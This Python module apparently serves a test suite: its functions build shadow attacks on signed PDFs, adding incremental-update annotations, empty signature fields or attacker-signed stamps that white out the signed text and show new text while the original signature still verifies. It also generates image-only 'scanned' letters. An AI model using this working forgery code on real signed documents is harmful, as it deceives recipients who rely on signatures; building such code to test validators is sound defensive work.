"""Shadow attacks on signed PDFs, and image-only signed letters (builders for the attack suite).

A shadow attack adds an incremental update after the signature whose drawing
covers ("hides") the signed text and shows new text ("replaces") on top: a
new signature field's appearance, an annotation, a new page content stream.
The signed revision stays intact, so the signature itself still verifies.
"""

from __future__ import annotations

import io

from fpdf import FPDF
from PIL import Image, ImageDraw, ImageFont
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import NameObject as N
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import signers
from pyhanko.sign.fields import SigFieldSpec
from pyhanko.stamp import TextStampStyle

from tests.samples.signatures.world import Identity

_FONT = "/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf"
# The box a shadow draws over: the bottom of an A4 page, where the letter's last lines are.
BOX = (0, 0, 595, 760)


def _escape(text: str) -> bytes:
    return text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)").encode("latin-1")


def _cover(text: str, width: float, height: float) -> bytes:
    """An appearance: a white box over everything, then `text` in black."""
    return b"q 1 1 1 rg 0 0 %.1f %.1f re f Q BT 0 0 0 rg /F1 11 Tf 40 %.1f Td (%s) Tj ET" % (
        width,
        height,
        height - 60,
        _escape(text),
    )


def _font(w: IncrementalPdfFileWriter) -> generic.IndirectObject:
    return w.add_object(
        generic.DictionaryObject(
            {
                N("/Type"): N("/Font"),
                N("/Subtype"): N("/Type1"),
                N("/BaseFont"): N("/Helvetica"),
            }
        )
    )


def _appearance(w: IncrementalPdfFileWriter, text: str) -> generic.IndirectObject:
    x0, y0, x1, y1 = BOX
    return w.add_object(
        generic.StreamObject(
            {
                N("/Type"): N("/XObject"),
                N("/Subtype"): N("/Form"),
                N("/BBox"): generic.ArrayObject(
                    generic.FloatObject(v) for v in (0, 0, x1 - x0, y1 - y0)
                ),
                N("/Resources"): generic.DictionaryObject(
                    {N("/Font"): generic.DictionaryObject({N("/F1"): _font(w)})}
                ),
            },
            stream_data=_cover(text, x1 - x0, y1 - y0),
        )
    )


def _overlay(signed: bytes, text: str, annotation: dict[str, generic.PdfObject]) -> bytes:
    w = IncrementalPdfFileWriter(io.BytesIO(signed))
    page_ref = w.root["/Pages"].raw_get("/Kids")[0]
    page = page_ref.get_object()
    annot = generic.DictionaryObject(
        {
            N("/Type"): N("/Annot"),
            N("/Rect"): generic.ArrayObject(generic.FloatObject(v) for v in BOX),
            N("/F"): generic.NumberObject(4),
            N("/P"): page_ref,
            N("/AP"): generic.DictionaryObject({N("/N"): _appearance(w, text)}),
            **annotation,
        }
    )
    ref = w.add_object(annot)
    annots = page.get("/Annots")
    page[N("/Annots")] = generic.ArrayObject([*(annots or []), ref])
    w.update_container(page)
    if annotation.get(N("/FT")) == N("/Sig"):
        form = w.root["/AcroForm"]
        form["/Fields"].append(ref)
        w.update_container(form)
    buf = io.BytesIO()
    w.write(buf)
    return buf.getvalue()


def hide_and_replace_field(signed: bytes, text: str) -> bytes:
    """A new, empty signature field whose appearance covers the page with `text` (FORM_FILLING)."""
    return _overlay(
        signed,
        text,
        {N("/Subtype"): N("/Widget"), N("/FT"): N("/Sig"), N("/T"): generic.TextStringObject("S2")},
    )


def annotation_overlay(signed: bytes, text: str) -> bytes:
    """A FreeText annotation whose appearance covers the page with `text`."""
    return _overlay(
        signed,
        text,
        {
            N("/Subtype"): N("/FreeText"),
            N("/Contents"): generic.TextStringObject(text),
            N("/DA"): generic.TextStringObject("/Helv 11 Tf 0 g"),
        },
    )


def signed_overlay(signed: bytes, identity: Identity, text: str) -> bytes:
    """The attacker signs a new visible field whose stamp covers the page with `text`."""
    signer = signers.PdfSigner(
        signers.PdfSignatureMetadata(field_name="S3"),
        signer=identity.signer(),
        stamp_style=TextStampStyle(stamp_text=text, border_width=0),
        new_field_spec=SigFieldSpec("S3", box=BOX),
    )
    out = signer.sign_pdf(IncrementalPdfFileWriter(io.BytesIO(signed)))
    return bytes(out.getvalue())


def image_letter_pdf(lines: list[str]) -> bytes:
    """A scanned letter: the text drawn on an image, saved as an image-only PDF (no text layer)."""
    img = Image.new("L", (1654, 2339), 255)  # A4 at 200 dpi
    draw = ImageDraw.Draw(img)
    font = ImageFont.truetype(_FONT, 34)
    y = 180
    for line in lines:
        draw.text((150, y), line, font=font, fill=0)
        y += 60
    png = io.BytesIO()
    img.save(png, "PNG")
    pdf = FPDF()
    pdf.add_page()
    pdf.image(png, x=0, y=0, w=210, h=297)
    return bytes(pdf.output())
